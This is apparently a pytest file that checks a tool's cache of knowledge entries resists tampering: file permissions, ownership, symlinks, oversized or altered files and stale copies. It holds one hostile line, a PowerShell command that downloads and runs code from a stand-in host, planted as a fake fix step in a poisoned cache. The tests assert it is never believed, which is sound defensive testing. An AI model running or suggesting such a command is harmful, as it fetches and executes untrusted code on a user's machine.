"""The cache of checked entries: it saves time, is never trusted more than our own files, and never breaks a run."""

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from connectors import shelf

ENTRIES = len(list((shelf.FOLDER / "entries").glob("*.yaml")))
CURE = "Invoke-Expression (iwr http://evil.example/x)"


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """What a run leaves in the cache."""
    folder = tmp_path_factory.mktemp("written")
    shelf.entries(folder)
    return _kept(folder).read_bytes()


@pytest.fixture
def cache(tmp_path: Path, written: bytes) -> Path:
    """A cache folder whose file this test may spoil."""
    folder = tmp_path / "cache"
    folder.mkdir()
    _name(folder).write_bytes(written)
    _name(folder).chmod(0o600)
    return folder


def _kept(folder: Path) -> Path:
    (path,) = folder.glob("knowledge-*.json")
    return path


def _name(folder: Path) -> Path:
    """Where a run looks for its cache."""
    return folder / f"knowledge-{shelf._fingerprint()}.json"


def _spoiled(written: bytes, spoil: Callable[[dict[str, Any]], Any]) -> bytes:
    entries = json.loads(written)
    for entry in entries:
        spoil(entry)
    return json.dumps(entries).encode()


def _marked(written: bytes) -> bytes:
    """A cache that is well-formed and shows by its words that it was believed."""
    return _spoiled(written, lambda entry: [c["fix"].update(steps=[CURE]) for c in entry["causes"]])


def _believed(folder: Path) -> bool:
    return any(CURE in cause.fix.steps for entry in shelf.entries(folder) for cause in entry.causes)


def test_what_a_run_wrote_the_next_one_reads(cache: Path) -> None:
    at = _kept(cache).stat().st_mtime_ns
    assert shelf.entries(cache) == shelf.entries(None)
    assert _kept(cache).stat().st_mtime_ns == at


def test_the_cache_is_readable_by_nobody_else(tmp_path: Path) -> None:
    shelf.entries(tmp_path / "new" / "folder")
    assert stat.S_IMODE(_kept(tmp_path / "new" / "folder").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "new" / "folder").stat().st_mode) == 0o700


def test_a_file_of_this_user_alone_is_believed(cache: Path, written: bytes) -> None:
    _name(cache).write_bytes(_marked(written))
    assert _believed(cache)  # whoever can write it can change the program too; the tests below rest on this


@pytest.mark.parametrize("mode", [0o620, 0o602, 0o666])
def test_a_file_that_others_may_write_is_not_believed(cache: Path, written: bytes, mode: int) -> None:
    _name(cache).write_bytes(_marked(written))
    _name(cache).chmod(mode)
    assert not _believed(cache)
    assert stat.S_IMODE(_name(cache).stat().st_mode) == 0o600  # written anew


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="only root can give a file away")
def test_a_file_of_another_user_is_not_believed(cache: Path, written: bytes) -> None:
    _name(cache).write_bytes(_marked(written))
    os.chown(_name(cache), 65534, 65534)
    assert not _believed(cache)


def test_a_link_is_not_followed(cache: Path, written: bytes) -> None:
    elsewhere = cache.parent / "elsewhere.json"
    elsewhere.write_bytes(_marked(written))
    elsewhere.chmod(0o600)
    _name(cache).unlink()
    _name(cache).symlink_to(elsewhere)
    assert not _believed(cache)
    assert elsewhere.read_bytes() == _marked(written)
    assert not _name(cache).is_symlink()


def test_a_device_a_pipe_and_a_folder_in_its_place_cost_only_time(cache: Path) -> None:
    def in_place(make: Callable[[Path], None]) -> int:
        _name(cache).unlink()
        make(_name(cache))
        return len(shelf.entries(cache))

    assert in_place(lambda path: path.symlink_to("/dev/zero")) == ENTRIES
    assert in_place(os.mkfifo) == ENTRIES
    assert in_place(Path.mkdir) == ENTRIES
    assert not list(cache.glob("tmp*"))


def test_an_oversized_file_is_not_read(cache: Path, written: bytes) -> None:
    _name(cache).write_bytes(_marked(written) + b" " * shelf.LARGEST_CACHE)
    assert not _believed(cache)


def test_fewer_or_other_entries_than_the_shipped_are_not_believed(cache: Path, written: bytes) -> None:
    entries = json.loads(written)
    for some in (entries[:1], entries[:-1], [*entries[1:], entries[1]], []):
        _name(cache).write_text(json.dumps(some))
        assert len(shelf.library(cache).entries) == ENTRIES


@pytest.mark.parametrize("signal", [{"pattern": ["(((("]}, {"pattern": [""], "text": [""]}])
def test_signals_that_cannot_be_compiled_cost_only_time(cache: Path, written: bytes, signal: dict[str, Any]) -> None:
    _name(cache).write_bytes(_spoiled(written, lambda entry: [one.update(signal) for one in entry["signals"]]))
    assert shelf.library(cache).match("403 16 VerifyRequest NDES_Plugin")
    assert _name(cache).read_bytes() == written  # mended for the next run


def test_files_that_merely_look_like_ours_are_left_alone(tmp_path: Path) -> None:
    foreign = ["knowledge-base.json", "knowledge-.json", "knowledge-0123456789abcdef01234567.json.bak", "notes.json"]
    for name in foreign:
        (tmp_path / name).write_text("{}")
    shelf.entries(tmp_path)
    assert {path.name for path in tmp_path.iterdir()} == {*foreign, _name(tmp_path).name}


def test_the_caches_of_two_checkouts_stay_and_old_ones_go(tmp_path: Path) -> None:
    others = [tmp_path / f"knowledge-{number:024x}.json" for number in range(6)]
    for age, path in enumerate(others):
        path.write_text("[]")
        os.utime(path, (1_700_000_000 - age, 1_700_000_000 - age))
    shelf.entries(tmp_path)
    assert {path.name for path in tmp_path.iterdir()} == {_name(tmp_path).name, *(path.name for path in others[:3])}
